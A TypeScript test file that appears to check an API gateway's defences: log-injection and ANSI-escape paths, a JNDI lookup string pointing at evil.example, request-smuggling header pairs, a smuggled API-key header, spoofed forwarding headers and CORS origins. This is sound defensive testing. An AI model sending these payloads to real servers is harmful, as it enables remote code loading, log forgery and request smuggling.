// Requests that mean harm to the log, to what is believed of a client, or to the process.
import { connect } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Gateway, startGateway } from '#test/support/gateway.ts'

let gateway: Gateway
beforeAll(async () => {
  gateway = await startGateway({ settings: { server: { port: 0, cors: { origins: ['https://studio.example.com'] } } } })
})
afterAll(() => gateway.close())

/** Sends bytes as they are. @returns everything that comes back until the connection ends */
function send(bytes: string): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect(Number(new URL(gateway.address).port), '127.0.0.1', () => socket.write(bytes, 'latin1'))
    let answer = ''
    socket.setEncoding('utf8')
    socket.on('data', (chunk) => {
      answer += chunk
    })
    socket.on('error', () => undefined)
    socket.on('close', () => resolve(answer))
  })
}

const toRequest = (path: string, headers: readonly string[] = []) =>
  `${[`GET ${path} HTTP/1.1`, 'host: x', 'connection: close', ...headers].join('\r\n')}\r\n\r\n`

/** The lines that were logged while `act` ran, each parsed. */
async function linesOf(act: () => Promise<unknown>): Promise<readonly Record<string, unknown>[]> {
  const before = gateway.log().length
  await act()
  const lines = gateway.log().slice(before).split('\n')
  expect(lines.pop()).toBe('')
  return lines.map((line) => JSON.parse(line))
}

function longestText(value: unknown): number {
  if (typeof value === 'string') return value.length
  if (typeof value !== 'object' || value === null) return 0
  return Math.max(0, ...Object.values(value).map(longestText))
}

describe('the log', () => {
  it.each([
    ['line breaks in a path', '/v1/accounts/a%0d%0a%7b%22level%22%3a%22fatal%22%7d'],
    ['a line break of Unicode in a path', '/v1/accounts/a%e2%80%a8b'],
    ['colours in a path', '/v1/accounts/%1b%5b31mred%1b%5b0m'],
    ['raw colours in a path', '/v1/accounts/\u001b[31mred'],
    ['a lookup in a path', '/v1/accounts/${jndi:ldap://evil.example/a}'],
    ['a forged line in a query', '/v1/accounts?a=%22%7d%0a%7b%22level%22%3a%22fatal%22%2c%22msg%22%3a%22forged'],
    ['a path of 8 KB', `/v1/accounts/${'a'.repeat(8192)}`],
    ['malformed percent-encoding', '/v1/accounts/%zz%0a'],
  ])('has whole lines of its own, and short fields, whatever is asked: %s', async (_name, path) => {
    const lines = await linesOf(() => send(toRequest(path)))
    expect(lines.length).toBeLessThanOrEqual(1)
    for (const line of lines) {
      expect(line['level']).not.toBe('fatal')
      expect(longestText(line)).toBeLessThanOrEqual(1024)
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
      expect(JSON.stringify(line)).not.toMatch(/\\u001b|\\r|\\n|[\u0000-\u001f\u2028]/)
    }
  })

  it.each([
    ['colours', 'user-agent: \u001b[31mred\u001b[0m'],
    ['a lookup', 'user-agent: ${jndi:ldap://evil.example/a}'],
    ['a forged line', 'referer: "}{"level":"fatal","msg":"forged"}'],
    ['a forged id', 'x-request-id: "}{"level":"fatal"}'],
    ['an id that is too long', `x-request-id: ${'a'.repeat(65)}`],
    ['a forged trace', `traceparent: ${'f'.repeat(4000)}`],
  ])('holds nothing of headers: %s', async (_name, header) => {
    const lines = await linesOf(() => send(toRequest('/v1/accounts', [header])))
    // What is no header at all is refused before there is anything to log.
    expect(lines.length).toBeLessThanOrEqual(1)
    const sent = header.slice(header.indexOf(':') + 2)
    for (const line of lines) {
      expect(line['requestId']).toMatch(/^[0-9a-f-]{36}$/)
      expect(JSON.stringify(line)).not.toContain(JSON.stringify(sent).slice(1, -1))
    }
  })
})

describe('headers that are too much', () => {
  it('are refused with 431 and leave the process well: a user agent of 1 MB', async () => {
    const answer = await send(toRequest('/v1/accounts', [`user-agent: ${'a'.repeat(1024 * 1024)}`]))
    // Who still sends when the connection is reset may not see it.
    if (answer !== '') expect(answer).toMatch(/^HTTP\/1\.1 431 /)
    expect((await gateway.get('/healthz')).status).toBe(200)
  })

  it('are refused with 431 and say so: a user agent of 20 KB', async () => {
    const answer = await send(toRequest('/v1/accounts', [`user-agent: ${'a'.repeat(20_000)}`]))
    expect(answer).toMatch(/^HTTP\/1\.1 431 /)
    expect(answer).toContain('"code":"INVALID_INPUT"')
  })

  it('are refused when one smuggles: two lengths, a length beside chunks, a bare line feed', async () => {
    for (const headers of [
      ['content-length: 1', 'content-length: 2'],
      ['content-length: 1', 'transfer-encoding: chunked'],
      ['transfer-encoding: chunked, identity'],
      ['x: a\nx-api-key: stolen'],
      ['x : a'],
    ])
      expect(await send(toRequest('/v1/accounts', headers).replace('GET', 'POST'))).toMatch(/^HTTP\/1\.1 400 /)
  })
})

describe('forwarding headers of whoever may not forward', () => {
  it.each([
    ['one', ['x-forwarded-for: 203.0.113.9']],
    ['several', ['x-forwarded-for: 203.0.113.9', 'x-forwarded-for: 198.51.100.1, 203.0.113.7']],
    [
      'garbled ones',
      ['x-forwarded-for: ,,, ;; \u00ff 999.999.999.999, unknown, [::1', 'x-forwarded-proto: gopher, , https'],
    ],
    ['an address of 8 KB', [`x-forwarded-for: ${'1'.repeat(8192)}`]],
    ['a host', ['x-forwarded-host: evil.example', 'x-forwarded-proto: https', 'x-forwarded-port: 1']],
  ])('are not believed: %s', async (_name, headers) => {
    let answer = ''
    const lines = await linesOf(async () => {
      answer = await send(toRequest('/v1/accounts', headers))
    })
    expect(answer).toMatch(/^HTTP\/1\.1 200 /)
    expect(answer).not.toContain('evil.example')
    expect(JSON.stringify(lines)).not.toMatch(/203\.0\.113|198\.51\.100|1111|evil/)
  })
})

describe('pages of other origins', () => {
  const preflight = (origin: string, asked: string) =>
    fetch(`${gateway.address}/graphql`, {
      method: 'OPTIONS',
      headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': asked },
    })

  it('may call when they are listed, with the headers the gateway reads, and never with cookies', async () => {
    const { headers } = await preflight('https://studio.example.com', 'graphql-require-preflight,traceparent')
    expect(headers.get('access-control-allow-origin')).toBe('https://studio.example.com')
    expect(headers.get('vary')).toContain('Origin')
    expect(headers.get('access-control-allow-credentials')).toBeNull()
    const allowed = headers.get('access-control-allow-headers')?.split(', ') ?? []
    const read = [
      'authorization',
      'content-type',
      'graphql-require-preflight',
      'last-event-id',
      'traceparent',
      'x-api-key',
    ]
    for (const name of read) expect(allowed.join().toLowerCase().split(',')).toContain(name)
  })

  it.each(['https://evil.example', 'https://studio.example.com.evil.example', 'http://studio.example.com', 'null'])(
    'are told nothing otherwise: %s',
    async (origin) => {
      for (const answer of [await preflight(origin, 'authorization'), await gateway.get('/v1/accounts', { origin })]) {
        expect(answer.headers.get('access-control-allow-origin')).toBeNull()
        expect(answer.headers.get('access-control-allow-credentials')).toBeNull()
      }
    },
  )
})
